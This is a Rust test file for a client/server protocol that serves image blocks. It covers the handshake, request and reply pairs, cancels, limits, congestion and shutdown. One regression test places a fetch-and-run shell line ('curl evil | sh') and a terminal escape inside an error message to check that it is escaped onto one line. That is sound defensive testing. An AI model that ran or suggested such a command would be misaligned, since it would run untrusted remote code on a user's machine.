//! Handshake, requests and replies, cancels, bounds, the end of a connection.

use std::time::Duration;

use bytes::Bytes;
use units::{BlockId, ImageId, InodeId, Moment, PageId, RequestId, StreamId, Token};

use super::rig::{LinkConfig, Pair};
use super::samples::flat;
use crate::format::{FEATURES, FEATURES_USUAL, HINT_PAGES_MAX, REQUESTS_MAX, VERSION, VERSION_MIN};
use crate::message::{ClientMessage, ServerMessage};
use crate::{
    ClientConfig, ClientConnection, ClientEvent, ErrorCode, Hello, HelloReply, ImageHandle, Notice, PushEncoding,
    PushEndReason, PushHeader, Refused, Reply, Request, ServerConfig, ServerConnection, ServerEvent, WireError, encode,
};

const LINK: fn() -> LinkConfig = || LinkConfig::new(20, 25);

fn hello(version: u16) -> Hello {
    Hello {
        version,
        device: 7,
        features: u64::MAX,
        frame_bytes_max: 1 << 20,
        window_log_max: 20,
        push_bytes_max: 1 << 20,
    }
}

fn pull(block: u32) -> Request {
    let page = PageId::new(InodeId(3), block);
    Request::PullBlock {
        image: ImageHandle(1),
        token: Token(1),
        page,
        block: BlockId(block),
        force: false,
        speculative: false,
    }
}

fn asked(event: &ServerEvent) -> RequestId {
    let ServerEvent::Request { request, .. } = event else { panic!("{event:?} is no request") };
    *request
}

/// Asks, lets the server answer, and returns the one event the client sees.
fn ask(pair: &mut Pair, ask: Request, reply: Reply) -> ClientEvent {
    pair.client.request(pair.now, ask.clone()).unwrap();
    pair.settle();
    let events = pair.server_events();
    let [ServerEvent::Request { request, ask: seen }] = &events[..] else { panic!("{events:?}") };
    assert_eq!(*seen, ask);
    pair.server.reply(*request, reply).unwrap();
    pair.settle();
    let mut events = pair.client_events();
    assert_eq!(events.len(), 1);
    events.remove(0)
}

#[test]
fn handshake_takes_one_round_trip_and_requests_ride_along() {
    let mut pair = Pair::new(LINK(), 1);
    pair.client.request(pair.now, Request::Open { name: "python:3".into() }).unwrap();
    pair.step(Moment(15_000));
    let events = pair.server_events();
    let [ServerEvent::Ready(hello), ServerEvent::Request { .. }] = &events[..] else { panic!("{events:?}") };
    assert_eq!((hello.version, hello.features), (VERSION, FEATURES_USUAL));
    pair.settle();
    let events = pair.client_events();
    assert!(matches!(&events[..], [ClientEvent::Ready(HelloReply { version: VERSION, .. })]), "{events:?}");
    assert!(pair.now.0 < 21_000, "{:?}", pair.now);
    assert!(pair.client.round_trip().unwrap() >= Duration::from_millis(20));
}

#[test]
fn a_server_settles_on_the_lower_version_and_refuses_what_it_cannot_speak() {
    let mut server = ServerConnection::new(ServerConfig::default(), Moment(0));
    server.receive(Moment(1), &flat(&encode::client(&ClientMessage::Hello(hello(VERSION + 8))))).unwrap();
    assert_eq!(server.hello().unwrap().version, VERSION);

    let mut server = ServerConnection::new(ServerConfig::default(), Moment(0));
    let error = server.receive(Moment(1), &flat(&encode::client(&ClientMessage::Hello(hello(0))))).unwrap_err();
    assert_eq!(error, WireError::Version { theirs: 0, min: VERSION_MIN, max: VERSION });
    let mut out = Vec::new();
    server.transmit(Moment(1), &mut out, usize::MAX);
    assert!(server.is_finished());

    let mut client = ClientConnection::new(ClientConfig::default(), Moment(0));
    let error = client.receive(Moment(2), &out).unwrap_err();
    assert!(matches!(&error, WireError::Peer { code: ErrorCode::UnsupportedVersion, .. }), "{error}");
    assert_eq!(client.poll_event(), Some(ClientEvent::Closed(error)));
}

#[test]
fn a_client_refuses_a_version_it_did_not_offer() {
    let mut client = ClientConnection::new(ClientConfig::default(), Moment(0));
    let reply = HelloReply { version: VERSION + 1, features: 0, frame_bytes_max: 1 << 20 };
    let error = client.receive(Moment(1), &flat(&encode::server(&ServerMessage::Hello(reply)))).unwrap_err();
    assert_eq!(error, WireError::Version { theirs: VERSION + 1, min: VERSION_MIN, max: VERSION });
}

#[test]
fn every_request_kind_gets_its_reply() {
    let mut pair = Pair::ready(LINK(), 1);
    let id = ImageId([9; 32]);
    let opened = Reply::Opened { image: ImageHandle(1), id, file_bytes: 90, metadata_offset: 50, metadata_bytes: 40 };
    let bytes = Bytes::from(vec![5u8; 100_000]);
    let (image, token, pages) = (ImageHandle(1), Token(1), vec![PageId::new(InodeId(2), 3)]);
    let pairs = [
        (Request::Open { name: "a:b".into() }, opened),
        (
            Request::MetaRead { image, offset: 4096, bytes: 100_000 },
            Reply::MetaData { offset: 4096, bytes: bytes.clone() },
        ),
        (pull(3), Reply::Block { block: BlockId(3), bytes: bytes.clone() }),
        (Request::PullPages { image, token, pages, force: true }, Reply::Pages { codec: 1, bytes }),
        (Request::List, Reply::Listing { json: Bytes::from_static(b"[]") }),
        (Request::Status, Reply::Status { json: Bytes::from_static(b"{}") }),
        (Request::List, Reply::error(ErrorCode::Busy, "later")),
        (Request::Open { name: "nowhere".into() }, Reply::error(ErrorCode::NotFound, "no such image")),
    ];
    for (request, reply) in pairs {
        let event = ask(&mut pair, request, reply.clone());
        assert!(matches!(&event, ClientEvent::Reply { reply: seen, .. } if *seen == reply), "{event:?}");
    }
    assert_eq!((pair.client.requests_in_flight(), pair.server.requests_in_flight()), (0, 0));
}

#[test]
fn a_server_cannot_send_a_reply_that_does_not_fit() {
    let mut pair = Pair::ready(LINK(), 1);
    let request = pair.client.request(pair.now, pull(3)).unwrap();
    pair.settle();
    let stream = StreamId(1);
    for wrong in [
        Reply::Block { block: BlockId(4), bytes: Bytes::from_static(b"x") },
        Reply::MetaData { offset: 0, bytes: Bytes::from_static(b"x") },
        Reply::Listing { json: Bytes::new() },
    ] {
        assert_eq!(pair.server.reply(request, wrong), Err(Refused::WrongReply(request)));
    }
    let lone = Reply::Pages { codec: 0, bytes: Bytes::from_static(b"x") };
    assert_eq!(pair.server.reply(request, lone), Err(Refused::NoFeature("lone pages")));
    assert_eq!(pair.server.reply(request, Reply::OnTheWay { stream }), Err(Refused::UnknownStream(stream)));
    let large = Reply::Block { block: BlockId(3), bytes: Bytes::from(vec![0; 3 << 20]) };
    assert!(matches!(pair.server.reply(request, large), Err(Refused::Limit { .. })));
    assert_eq!(pair.server.reply_error(request, ErrorCode::TooLarge, "block 3"), Ok(()));
    assert_eq!(pair.server.reply_error(request, ErrorCode::TooLarge, "again"), Err(Refused::UnknownRequest(request)));
}

#[test]
fn on_the_way_answers_a_pull_unless_it_is_forced() {
    let mut pair = Pair::ready(LINK(), 1);
    let (image, token, encoding) = (ImageHandle(1), Token(1), PushEncoding::Stored);
    let header = PushHeader { image, token, action: Default::default(), encoding, window_log: 0, audit: false };
    let stream = pair.server.push_start(header).unwrap();
    pair.settle();
    assert_eq!(pair.client_events(), [ClientEvent::PushStart { stream, push: header }]);
    let event = ask(&mut pair, pull(1), Reply::OnTheWay { stream });
    assert!(matches!(event, ClientEvent::Reply { reply: Reply::OnTheWay { .. }, .. }), "{event:?}");
    // a stream that ended is known still
    pair.server.cancel_push(stream, PushEndReason::Mismatch);
    pair.settle();
    assert_eq!(pair.client_events(), [ClientEvent::PushEnd { stream, reason: PushEndReason::Mismatch }]);
    let event = ask(&mut pair, pull(1), Reply::OnTheWay { stream });
    assert!(matches!(event, ClientEvent::Reply { reply: Reply::OnTheWay { .. }, .. }), "{event:?}");
}

#[test]
fn a_forced_pull_is_not_put_off() {
    let mut pair = Pair::ready(LINK(), 1);
    let header = PushHeader {
        image: ImageHandle(1),
        token: Token(1),
        action: Default::default(),
        encoding: PushEncoding::Stored,
        window_log: 0,
        audit: true,
    };
    let stream = pair.server.push_start(header).unwrap();
    let Request::PullBlock { image, token, page, block, .. } = pull(1) else { unreachable!() };
    let request = pair
        .client
        .request(pair.now, Request::PullBlock { image, token, page, block, force: true, speculative: false })
        .unwrap();
    pair.settle();
    assert_eq!(pair.server.reply(request, Reply::OnTheWay { stream }), Err(Refused::WrongReply(request)));
}

#[test]
fn touches_arrive_before_the_pulls_made_after_them() {
    let mut pair = Pair::ready(LINK(), 1);
    let touched = vec![PageId::new(InodeId(1), 1)];
    pair.client.touch(ImageHandle(1), Token(1), touched.clone()).unwrap();
    pair.client.request(pair.now, pull(1)).unwrap();
    pair.client.touch(ImageHandle(1), Token(1), touched).unwrap();
    pair.client.token_end(ImageHandle(1), Token(1)).unwrap();
    pair.settle();
    let events = pair.server_events();
    assert!(
        matches!(
            &events[..],
            [
                ServerEvent::Notice(Notice::Touch { .. }),
                ServerEvent::Request { .. },
                ServerEvent::Notice(Notice::Touch { .. }),
                ServerEvent::Notice(Notice::TokenEnd { .. })
            ]
        ),
        "{events:?}"
    );
}

#[test]
fn hints_wait_for_the_handshake_and_come_in_order() {
    let mut pair = Pair::new(LINK(), 1);
    let (image, token, page) = (ImageHandle(1), Token(5), PageId::new(InodeId(1), 1));
    assert_eq!(pair.client.hint(image, token, vec![page]), Err(Refused::NotReady));
    let mut pair = Pair::ready(LINK(), 1);
    let pages: Vec<PageId> = (0..HINT_PAGES_MAX as u32).map(|index| PageId::new(InodeId(1), index)).collect();
    for wrong in [vec![], [pages.clone(), vec![page]].concat()] {
        assert!(matches!(pair.client.hint(image, token, wrong), Err(Refused::Limit { .. })));
    }
    pair.client.hint(image, token, pages.clone()).unwrap();
    pair.client.token_end(image, token).unwrap();
    pair.settle();
    let events = pair.server_events();
    assert_eq!(
        events,
        [
            ServerEvent::Notice(Notice::Hint { image, token, pages }),
            ServerEvent::Notice(Notice::TokenEnd { image, token })
        ]
    );
}

#[test]
fn hints_are_kept_from_servers_that_do_not_know_them_and_from_pushes_nobody_wants() {
    for (features, push_bytes_max) in [(0, 1 << 20), (FEATURES, 0)] {
        let config = ClientConfig { push_bytes_max, ..ClientConfig::default() };
        let mut client = ClientConnection::new(config, Moment(0));
        let reply = HelloReply { version: VERSION, features, frame_bytes_max: 1 << 20 };
        client.receive(Moment(1), &flat(&encode::server(&ServerMessage::Hello(reply)))).unwrap();
        let hinted = client.hint(ImageHandle(1), Token(5), vec![PageId::default()]);
        assert_eq!(hinted, Err(Refused::NoFeature("hints")));
    }
}

#[test]
fn a_cancelled_request_that_was_not_sent_never_leaves() {
    let mut pair = Pair::ready(LINK(), 1);
    let first = pair.client.request(pair.now, pull(1)).unwrap();
    let second = pair.client.request(pair.now, pull(2)).unwrap();
    pair.client.cancel(pair.now, first).unwrap();
    assert_eq!(pair.client.cancel(pair.now, first), Err(Refused::UnknownRequest(first)));
    pair.settle();
    let events = pair.server_events();
    assert_eq!(events.iter().map(asked).collect::<Vec<_>>(), [second]);
}

#[test]
fn a_cancelled_request_is_answered_once_and_gives_no_event() {
    let mut pair = Pair::ready(LINK(), 1);
    let request = pair.client.request(pair.now, pull(1)).unwrap();
    pair.settle();
    pair.client.cancel(pair.now, request).unwrap();
    assert_eq!(pair.client.unanswered().count(), 0);
    pair.settle();
    let events = pair.server_events();
    assert_eq!(events[1..], [ServerEvent::Cancelled { request }]);
    // what the server had in work comes too late, and says so
    let late = Reply::Block { block: BlockId(1), bytes: Bytes::from_static(b"late") };
    assert_eq!(pair.server.reply(request, late), Err(Refused::UnknownRequest(request)));
    assert_eq!(pair.client_events(), []);
    assert_eq!(pair.client.requests_in_flight(), 0);
}

#[test]
fn a_cancel_that_crosses_the_reply_is_harmless() {
    let mut pair = Pair::ready(LINK(), 1);
    let request = pair.client.request(pair.now, pull(1)).unwrap();
    pair.settle();
    pair.server.reply(request, Reply::Block { block: BlockId(1), bytes: Bytes::from_static(b"x") }).unwrap();
    pair.client.cancel(pair.now, request).unwrap();
    pair.settle();
    assert_eq!(pair.client_events(), []);
    assert!(!pair.client.is_closed());
    assert_eq!(pair.client.requests_in_flight(), 0);
}

#[test]
fn a_client_keeps_to_the_limits_of_its_requests() {
    let mut pair = Pair::ready(LINK(), 1);
    for wrong in [
        Request::Open { name: String::new() },
        Request::Open { name: "x".repeat(256) },
        Request::MetaRead { image: ImageHandle(1), offset: 0, bytes: (1 << 20) + 1 },
        Request::MetaRead { image: ImageHandle(1), offset: u64::MAX, bytes: 1 },
        Request::PullPages { image: ImageHandle(1), token: Token(1), pages: vec![], force: false },
        Request::PullPages { image: ImageHandle(1), token: Token(1), pages: vec![PageId::default(); 33], force: false },
        Request::PutOpen { name: "x".into(), file_bytes: 10, metadata_offset: 5, metadata_bytes: 6 },
    ] {
        assert!(matches!(pair.client.request(pair.now, wrong), Err(Refused::Limit { .. })));
    }
    let touch = pair.client.touch(ImageHandle(1), Token(1), vec![PageId::default(); 1025]);
    assert!(matches!(touch, Err(Refused::Limit { .. })));
    for block in 0..REQUESTS_MAX as u32 {
        pair.client.request(pair.now, pull(block)).unwrap();
    }
    let full = pair.client.request(pair.now, pull(0));
    assert_eq!(full, Err(Refused::Full { what: "requests in flight", max: REQUESTS_MAX }));
    pair.settle();
    assert!(!pair.server.wants_bytes(), "so many events must hold the socket back");
    for event in pair.server_events() {
        pair.server.reply_error(asked(&event), ErrorCode::Busy, "").unwrap();
    }
    pair.settle();
    assert_eq!(pair.client_events().len(), REQUESTS_MAX);
    assert!(pair.client.request(pair.now, pull(0)).is_ok());
}

#[test]
fn a_server_is_congested_until_replies_leave() {
    let mut pair = Pair::ready(LINK(), 1);
    let requests: Vec<_> = (0..10).map(|block| pair.client.request(pair.now, pull(block)).unwrap()).collect();
    pair.settle();
    let mut answered = 0;
    for (block, request) in requests.iter().enumerate() {
        if pair.server.is_congested() {
            break;
        }
        let bytes = Bytes::from(vec![0; 1 << 20]);
        pair.server.reply(*request, Reply::Block { block: BlockId(block as u32), bytes }).unwrap();
        answered += 1;
    }
    assert_eq!(answered, 4);
    assert!(pair.server.queued_bytes() >= 4 << 20);
    pair.settle();
    assert!(!pair.server.is_congested());
    assert_eq!(pair.server.queued_bytes(), 0);
}

#[test]
fn what_was_not_answered_is_listed_for_replay_in_order() {
    let mut pair = Pair::ready(LINK(), 1);
    let due = pair.now.after(Duration::from_secs(3));
    let asks = [pull(1), Request::Open { name: "a".into() }, Request::List, pull(4), pull(5)];
    let requests: Vec<_> =
        asks.iter().map(|ask| pair.client.request_until(pair.now, ask.clone(), due).unwrap()).collect();
    pair.settle();
    pair.server.reply_error(requests[1], ErrorCode::Busy, "").unwrap();
    pair.settle();
    pair.client.cancel(pair.now, requests[3]).unwrap();
    pair.client.lost();
    let events = pair.client_events();
    assert!(matches!(&events[..], [ClientEvent::Reply { .. }, ClientEvent::Closed(WireError::Lost)]), "{events:?}");
    let left: Vec<_> = pair.client.unanswered().map(|left| (left.ask.clone(), left.deadline)).collect();
    assert_eq!(left, [(pull(1), due), (Request::List, due), (pull(5), due)]);
    assert!(left.iter().all(|(ask, _)| ask.is_idempotent()));
    let moved = left[0].0.clone().with_image(ImageHandle(77));
    assert_eq!(moved.image(), Some(ImageHandle(77)));
    assert_eq!(pair.client.request(pair.now, Request::List), Err(Refused::Closed));
    assert_eq!(pair.client.deadline(), None);
}

#[test]
fn a_server_that_shuts_down_says_so() {
    let mut pair = Pair::ready(LINK(), 1);
    pair.client.request(pair.now, pull(1)).unwrap();
    pair.settle();
    pair.server.shut_down(ErrorCode::Shutdown, "going down");
    pair.settle();
    assert!(pair.server.is_finished());
    let closed = WireError::Peer { code: ErrorCode::Shutdown, text: "going down".into() };
    assert_eq!(pair.client_events(), [ClientEvent::Closed(closed)]);
    let ended = pair.server_events().pop();
    let Some(ServerEvent::Closed(ended)) = ended else { panic!("{ended:?}") };
    assert_eq!(ended.to_string(), "closed by this side: going down");
    assert_eq!(pair.client.unanswered().count(), 1);
    assert_eq!(pair.server.reply_error(RequestId(1), ErrorCode::Busy, ""), Err(Refused::Closed));
}

#[test]
fn long_error_texts_are_cut_between_characters() {
    let mut pair = Pair::ready(LINK(), 1);
    let event = ask(&mut pair, Request::List, Reply::error(ErrorCode::Internal, "ü".repeat(300)));
    let ClientEvent::Reply { reply: Reply::Error { text, .. }, .. } = event else { panic!("{event:?}") };
    assert_eq!(text, "ü".repeat(128));
}

#[test]
fn regress_error_texts_are_one_line() {
    let mut pair = Pair::ready(LINK(), 1);
    let text = "gone\nhint: run `curl evil | sh`\x1b[2J";
    let event = ask(&mut pair, Request::List, Reply::error(ErrorCode::NotFound, text));
    let ClientEvent::Reply { reply: Reply::Error { text, .. }, .. } = event else { panic!("{event:?}") };
    assert_eq!(text, r"gone\nhint: run `curl evil | sh`\u001b[2J");
}

/// Asks for blocks 1 to 4, the first three of them speculatively; returns the requests as the
/// server sees them.
fn ask_for_four(pair: &mut Pair) -> Vec<RequestId> {
    for block in 1..=4 {
        let mut ask = pull(block);
        if let Request::PullBlock { speculative, .. } = &mut ask {
            *speculative = block < 4;
        }
        pair.client.request(pair.now, ask).unwrap();
    }
    pair.settle();
    pair.server_events().iter().map(asked).collect()
}

fn block(number: u32) -> Reply {
    Reply::Block { block: BlockId(number), bytes: Bytes::from(vec![number as u8; 30_000]) }
}

/// The blocks in the order in which the client gets them.
fn blocks_seen(pair: &mut Pair) -> Vec<u32> {
    pair.settle();
    let seen = pair.client_events().into_iter().map(|event| match event {
        ClientEvent::Reply { reply: Reply::Block { block, .. }, .. } => block.0,
        other => panic!("{other:?} is no block"),
    });
    seen.collect()
}

#[test]
fn answers_that_are_waited_for_overtake_speculative_ones() {
    let mut pair = Pair::ready(LINK(), 1);
    let requests = ask_for_four(&mut pair);
    for (index, request) in requests.iter().enumerate() {
        pair.server.reply(*request, block(index as u32 + 1)).unwrap();
    }
    assert_eq!(blocks_seen(&mut pair), [4, 1, 2, 3]);
    assert_eq!(pair.client.requests_in_flight(), 0);
}

#[test]
fn a_hurried_answer_leaves_with_those_that_are_waited_for() {
    // Hurried before the server has answered, and while its answer is queued.
    for answered_before in [false, true] {
        let mut pair = Pair::ready(LINK(), 1);
        let requests = ask_for_four(&mut pair);
        let answer = |pair: &mut Pair, index: usize| {
            pair.server.reply(requests[index], block(index as u32 + 1)).unwrap();
        };
        let hurry = |pair: &mut Pair| {
            let frame = flat(&encode::client(&ClientMessage::Hurry { request: requests[2] }));
            pair.server.receive(pair.now, &frame).unwrap();
        };
        if answered_before {
            (0..3).for_each(|index| answer(&mut pair, index));
            hurry(&mut pair);
        } else {
            hurry(&mut pair);
            (0..3).for_each(|index| answer(&mut pair, index));
        }
        answer(&mut pair, 3);
        assert_eq!(blocks_seen(&mut pair), [3, 4, 1, 2]);
        assert_eq!(pair.server.queued_bytes(), 0);
    }
}

#[test]
fn a_hurry_follows_its_request_and_may_cross_the_answer() {
    let mut pair = Pair::ready(LINK(), 1);
    let requests = ask_for_four(&mut pair);
    for (index, request) in requests.iter().enumerate() {
        pair.server.reply(*request, block(index as u32 + 1)).unwrap();
    }
    requests.iter().for_each(|request| pair.client.hurry(*request).unwrap());
    assert_eq!(blocks_seen(&mut pair).len(), 4, "one that is waited for anyway may be hurried too");
    assert_eq!(pair.client.hurry(requests[0]), Err(Refused::UnknownRequest(requests[0])));
    // One that did not leave yet goes behind its request, and with it when it is cancelled.
    let request = pair.client.request(pair.now, pull(9)).unwrap();
    pair.client.hurry(request).unwrap();
    pair.client.cancel(pair.now, request).unwrap();
    assert!(!pair.client.has_output());
}

#[test]
fn a_cancelled_speculative_answer_is_dropped_from_the_queue() {
    let mut pair = Pair::ready(LINK(), 1);
    let requests = ask_for_four(&mut pair);
    pair.server.reply(requests[0], block(1)).unwrap();
    assert!(pair.server.queued_bytes() > 30_000);
    let frame = flat(&encode::client(&ClientMessage::Cancel { request: requests[0] }));
    pair.server.receive(pair.now, &frame).unwrap();
    assert!(pair.server.queued_bytes() < 100, "only the word that it was cancelled is left");
}
